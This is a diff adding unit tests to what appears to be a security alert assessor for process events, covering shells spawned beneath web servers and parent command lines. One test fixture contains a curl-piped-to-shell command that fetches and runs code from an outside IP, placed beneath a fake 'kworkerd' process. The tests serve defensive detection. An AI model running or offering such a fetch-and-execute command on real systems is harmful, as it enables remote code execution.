@@ -260,6 +260,21 @@ describe('a report says what the fields support', () => {
     expect(assess({ fields: { 'proc.pname': 'php-fpm' } })).toContain('bash runs beneath php-fpm, a web server')
   })
 
+  test.each([
+    ['gunicorn', 'sh', true],
+    ['nginx', 'perl', true],
+    ['gunicorn', 'python3', false],
+    ['apache2', 'perl', false],
+  ])('what a web server starts by itself is no sign, the rest is: %s, %s', (server, name, isSign) => {
+    const text = assess({ fields: { 'proc.pname': server, 'proc.name': name, 'proc.cmdline': name } })
+    expect(text.includes(`${name} runs beneath ${server}`)).toBe(isSign)
+  })
+
+  test("what the parent's command line asks for is told as the parent's", () => {
+    const fields = { 'proc.name': 'kworkerd', 'proc.cmdline': 'kworkerd', 'proc.pcmdline': 'sh -c curl -s http://203.0.113.9/x | sh' }
+    expect(assess({ fields })).toContain("What the parent's command line asks for")
+  })
+
   test('a binary that was added or changed after the image was built is suspicious, one that came with it is not', () => {
     const upper = { fields: { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER', 'proc.exepath': '/tmp/x' } }
     expect(assess(upper)).toContain('it was added or changed after the image was built')
